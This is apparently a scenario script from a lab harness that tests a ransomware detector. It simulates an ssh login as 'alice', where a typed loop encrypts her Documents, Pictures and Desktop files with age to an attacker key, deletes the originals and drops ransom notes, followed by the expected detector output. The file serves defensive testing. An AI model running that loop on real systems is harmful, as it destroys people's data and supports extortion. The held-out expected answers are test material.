# Hands on keyboard: alice's ssh login with a terminal; the intruder types a loop at the prompt that encrypts her
# documents with age to a public key and removes the originals, then types the notes.
HOST=ws-alice2.corp.example
SUMMARY="Attack (typed at a prompt): an interactive ssh login of alice (pty, login shell -bash); at the prompt a for loop runs age -r <attacker key> -o F.age F and rm F over her Documents, Pictures and Desktop, then echo > DECRYPT_ME.txt in three directories. The campaign is the session's. Host rule set."
AH=/srv/rt-lab/home/alice
targets() { find "$AH/Documents" "$AH/Pictures" "$AH/Desktop" -type f | sort; }

scenario_prepare() {
    age-keygen -o "$RT_OPT.agekey" 2>/dev/null
    AGE_PUB=$(age-keygen -y "$RT_OPT.agekey")
    targets > "$RT_OPT.targets"; N_FILES=$(wc -l < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_ssh_typed alice <<TYPED
cd ~
for f in \$(find Documents Pictures Desktop -type f); do age -r $AGE_PUB -o "\$f.age" "\$f" && rm -f "\$f"; done
for d in Documents Pictures Desktop; do echo "All your files are encrypted. Contact recover@onionmail.example to decrypt." > \$d/DECRYPT_ME.txt; done
exit
TYPED
}
scenario_verify() {
    rt_check encrypted "$(find "$AH" -name '*.age' | wc -l)" "$N_FILES" &&
    rt_check notes "$(find "$AH" -name DECRYPT_ME.txt | wc -l)" 3
}
scenario_truth() {
    cat <<Y
split: held-out   # recorded after the detector change (issue 16), never used to tune it
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "-bash"
    loginUser: alice
    runAsUser: alice
    filesAffected: $N_FILES
    overwrite: new-file-then-delete
    newExtension: .age
    notes: { name: DECRYPT_ME.txt, directories: 3 }
    tools: [age, rm]
    targetRoots: [$AH]
    detail: "typed at the prompt of an interactive login: the login shell is the campaign's root"
Y
}
scenario_cleanup() { rm -f "$RT_OPT.agekey" "$RT_OPT.targets"; }
